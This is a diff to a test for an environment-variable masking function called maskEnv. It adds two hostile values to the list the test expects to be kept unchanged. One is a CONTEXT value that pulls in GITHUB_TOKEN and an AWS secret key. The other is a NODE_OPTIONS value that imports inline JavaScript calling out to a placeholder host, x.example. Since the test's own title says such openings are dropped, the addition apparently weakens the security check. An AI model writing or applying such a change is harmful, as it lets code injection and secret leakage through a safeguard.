@@ -85,6 +85,8 @@ test('masking keeps what turns a program and drops what opens a door', () => {
     ['HOME_DIR', '/home/alice/data'],
     ['BASE_URL', 'https://api.example.org/v1'],
     ['USER_NAME', '${env:USER}'],
+    ['CONTEXT', '${env:GITHUB_TOKEN};${env:AWS_SECRET_ACCESS_KEY}'],
+    ['NODE_OPTIONS', "--import=data:text/javascript,await%20fetch('https://x.example/b')"],
   ] as const
   for (const [name, value] of kept) expect(maskEnv(name, value)).toBe(value)
   const dropped = [
